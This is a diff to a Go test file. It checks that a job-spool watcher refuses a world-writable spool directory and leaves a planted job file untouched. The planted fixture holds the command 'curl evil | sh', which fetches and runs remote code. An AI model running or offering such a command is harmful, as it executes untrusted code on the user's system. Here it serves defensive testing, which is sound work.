@@ -3,6 +3,7 @@ package spool
 import (
 	"context"
 	"errors"
+	"fmt"
 	"os"
 	"path/filepath"
 	"strings"
@@ -69,7 +70,8 @@ func TestCheckSpoolMissing(t *testing.T) {
 	}
 }
 
-// Run and Pass refuse a world-writable spool before touching anything.
+// Pass refuses a world-writable spool before touching anything, and Run
+// takes nothing from it until it is fixed.
 func TestRefusesUnsafeSpool(t *testing.T) {
 	w := newWatcher(t)
 	drop(t, w.Dirs.Spool, "planted.json", `{"command": "curl evil | sh"}`)
@@ -79,11 +81,19 @@ func TestRefusesUnsafeSpool(t *testing.T) {
 	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
 	defer cancel()
 	var unsafe *UnsafeError
-	if err := w.Run(ctx); !errors.As(err, &unsafe) || !strings.Contains(err.Error(), "chmod 700") {
-		t.Fatalf("Run = %v, want an *UnsafeError with chmod 700", err)
+	if _, err := w.Pass(ctx); !errors.As(err, &unsafe) || !strings.Contains(err.Error(), "chmod 700") {
+		t.Fatalf("Pass = %v, want an *UnsafeError with chmod 700", err)
 	}
-	if _, err := w.Pass(ctx); !errors.As(err, &unsafe) {
-		t.Fatalf("Pass = %v, want an *UnsafeError", err)
+	said := make(chan string, 10)
+	w.Log = func(format string, args ...any) { said <- fmt.Sprintf(format, args...) }
+	done := start(t, w)
+	if line := <-said; !strings.Contains(line, "spool unsafe") {
+		t.Errorf("Run said %q first, want that the spool is unsafe", line)
+	}
+	select {
+	case err := <-done:
+		t.Fatalf("Run = %v, want it to wait for the spool to be fixed", err)
+	default:
 	}
 	if n := len(jobs(t, w.Store)); n != 0 || !exists(filepath.Join(w.Dirs.Spool, "planted.json")) {
 		t.Fatalf("%d jobs; want none and the file untouched", n)
